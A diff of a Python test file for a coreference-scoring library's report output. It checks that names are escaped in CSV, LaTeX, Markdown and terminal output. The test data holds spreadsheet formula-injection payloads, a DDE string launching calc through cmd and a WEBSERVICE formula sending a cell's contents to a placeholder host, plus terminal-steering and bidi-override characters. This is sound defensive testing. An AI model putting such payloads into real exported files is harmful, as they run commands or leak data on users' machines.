@@ -17,7 +17,7 @@ from report_fakes import BatchScores
 
 import arraycoref
 from arraycoref.metrics import METRICS
-from arraycoref.report.escapes import csv_text, latex_text, markdown_text
+from arraycoref.report.escapes import csv_text, latex_text, markdown_code, markdown_text
 from arraycoref.report.formats import FORMATS
 from arraycoref.report.rows import to_dict
 from arraycoref.report.scores import ScoresReport, render
@@ -26,10 +26,11 @@ from arraycoref.report.text import render_repr
 from arraycoref.report.values import shown
 from arraycoref.stats import compare
 from arraycoref.sweeps.report import SweepReport
-from arraycoref.tagging.report import CountsReport
+from arraycoref.tagging import score_tags
+from arraycoref.tagging.report import CountsReport, TagsReport
 
-STRANGE = "a\nb\r\x1b[31m\x9b2J\u2028\x00"
-"""Line feeds, and sequences that steer a terminal: nothing of it may come out as it is."""
+STRANGE = "a\nb\r\x1b[31m\x9b2J\u2028\u202ec\u2066d\x00\ud800\t"
+"""Line feeds, what steers a terminal or turns the direction of writing: nothing of it may come out as it is."""
 
 KEY = {"d": [["a", "b"], ["c", "e"]], "f": [["a", "b", "c"]]}
 GOOD, POOR = {"d": [["a", "b"], ["c"]], "f": [["a", "b", "c"]]}, {"d": [["a", "c"], ["b"]], "f": [["a", "b"]]}
@@ -49,18 +50,78 @@ def sweeps(name):
     return SweepReport(swept, swept.best(resamples=20))
 
 
+def grids(name):
+    swept = arraycoref.sweep(KEY, [GOOD, POOR], settings=[{name: name}, {name: "b"}], metrics="muc")
+    return SweepReport(swept, swept.best(resamples=20))
+
+
 def tags(name):
     return CountsReport(["gold", name, "tags"], [[name, "b", 3], ["c", name, 2]])
 
 
-REPORTS = {"scores": scores, "ranking": rankings, "sweep": sweeps, "tags": tags}
+def tag_scores(name):
+    made = score_tags(["X", "Y"], ["X", "X"])
+    signature = dataclasses.replace(made.signature, tagset=name, weights=name)
+    counts = dataclasses.replace(made.counts, names=(name,))
+    return TagsReport(type(made)(made.metrics, counts, signature), per_document=True)
+
+
+def baselines(name):
+    return rankings(name, "b", baseline=name)
+
+
+REPORTS = {
+    "scores": scores,
+    "ranking": rankings,
+    "baseline": baselines,
+    "sweep": sweeps,
+    "grid": grids,
+    "tags": tags,
+    "tag scores": tag_scores,
+}
+
+
+STEERING = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
+
+
+@pytest.mark.parametrize("report", REPORTS)
+def test_nor_can_they_where_results_show_themselves(report):
+    """In notebooks, and as Python prints results, documents, settings, the best of them, and errors."""
+    shown = REPORTS[report](STRANGE)
+    assert not STEERING.search(shown._repr_html_())
+    texts = [repr(getattr(shown, name)) for name in ("b", "sweep", "best") if hasattr(shown, name)]
+    texts += [str(getattr(shown, name)) for name in ("b", "sweep", "best") if hasattr(shown, name)]
+    if report in ("ranking", "baseline"):
+        texts += [repr(shown), str(shown)]
+    assert not any(STEERING.search(text.replace("\n", "")) for text in texts)
+
+
+def test_errors_and_warnings_show_names_escaped():
+    batch = arraycoref.score_batch({STRANGE: []}, {STRANGE: []}, metrics="muc")
+    swept = arraycoref.sweep({"a": []}, [{"a": []}], settings=[STRANGE], metrics="muc")
+    for wrong in (
+        lambda: batch["nothing"],
+        lambda: batch.document("nothing"),
+        lambda: batch[0][STRANGE],
+        lambda: batch[0].counts[STRANGE],
+        lambda: swept.at("nothing"),
+        lambda: swept + swept,
+        lambda: compare({STRANGE: batch}, metric="muc", baseline="nothing"),
+        lambda: arraycoref.score_batch({STRANGE: []}, {}),
+        lambda: arraycoref.score_batch({STRANGE: [[1], [1]]}, {STRANGE: []}),
+    ):
+        with pytest.raises(arraycoref.ArraycorefError) as raised:
+            wrong()
+        assert not STEERING.search(str(raised.value))
+    assert not STEERING.search(str(arraycoref.ReadError(STRANGE, 3, STRANGE)))
 
 
 @pytest.mark.parametrize("format", FORMATS)
 @pytest.mark.parametrize("report", REPORTS)
 def test_names_cannot_break_lines_nor_steer_terminals(report, format):
     text = REPORTS[report](STRANGE).render(format)
-    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028]", text)
+    assert not STEERING.search(text.replace("\n", ""))
+    text.encode()
     plain = REPORTS[report]("plain").render(format)
     assert text.count("\n") == plain.count("\n")
 
@@ -109,11 +170,22 @@ def test_latex_runs(tmp_path):
         ("<b>", r"\<b>"),
         ("[b](c) ![d](e) [f][g]", r"[b\](c) ![d\](e) [f\][g]"),
         ("&lt;&#60;", r"\&lt;\&#60;"),
+        ("$x$", r"\$x\$"),
+        ("![b][c]", r"![b\][c]"),
         ("~~b~~", r"\~\~b\~\~"),
     ],
 )
 def test_markdown_escapes(name, expected):
     assert markdown_text(name) == expected
+
+
+@pytest.mark.parametrize(
+    ("name", "expected"),
+    [("a", "`a`"), ("a_b|c", "`a_b|c`"), ("a`b`", "`` a`b` ``"), ("``a", "``` ``a ```"), ("`", "`` ` ``")],
+)
+def test_markdown_code(name, expected):
+    """As CommonMark says: a span ends at as many backticks as it began with; a space at both ends is left out."""
+    assert markdown_code(name) == expected
 
 
 @pytest.mark.parametrize("report", REPORTS)
@@ -132,6 +204,14 @@ def test_markdown_rows_have_as_many_cells(report):
         ("=HYPERLINK(A1)", "'=HYPERLINK(A1)"),
         ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
         ("-2+3", "'-2+3"),
+        ("-2+3-", "'-2+3-"),
+        ('=WEBSERVICE("http://x/"&A1)=', '\'=WEBSERVICE("http://x/"&A1)='),
+        ("=5", "'=5"),
+        ("--1", "'--1"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("\t=1+1", r"\t=1+1"),
+        ("\r=1+1", r"\r=1+1"),
+        ("\n=1+1", r"\n=1+1"),
         ("@SUM(1)", "'@SUM(1)"),
         *((name, name) for name in ("-0.5", "+3", "-", "=", "-LRB-", "@", "a=1", "d-1", "", "1e-5")),
     ],
